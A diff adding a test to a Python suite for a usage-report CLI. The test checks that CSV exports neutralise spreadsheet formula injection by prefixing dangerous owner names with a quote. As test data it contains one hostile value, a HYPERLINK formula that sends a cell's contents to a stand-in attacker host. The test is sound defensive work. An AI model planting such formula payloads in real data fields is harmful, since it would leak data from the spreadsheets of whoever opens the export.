@@ -12,6 +12,7 @@ throwaway database).
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import re
@@ -285,6 +286,27 @@ def test_a_report_labels_the_group_without_a_value_as_the_dashboard_does(
     assert code == 0, err
     rows = {r["key"]: r["requests"] for r in csv.DictReader(io.StringIO(out))}
     assert rows[""] == "7"
+
+
+def test_a_csv_report_writes_a_name_a_spreadsheet_would_run_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Owners are names teams chose: one starting with ``=`` (or ``+ - @``) is written with a
+    leading ``'``, so that a spreadsheet opening the export shows it instead of running it."""
+    config = sqlite_config(tmp_path)
+    ts = recent()
+    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
+    records = [record(i, ts, "sub_0123456789abcdef", refused=False) for i in range(2)]
+    records[0] = dataclasses.replace(records[0], owner=hostile)
+    write_records(config, tmp_path, records)
+    code, out, err = run_cli(
+        capsys, "usage", "report", "-c", str(config), "--by", "owner", "--format", "csv"
+    )
+    assert code == 0, err
+    keys = [r["key"] for r in csv.DictReader(io.StringIO(out))]
+    assert "'" + hostile in keys
+    assert "platform-team" in keys  # other names as they are
+    assert hostile not in keys
 
 
 # -- 4. readable fields, --json everywhere, flags in help --------------------------------------
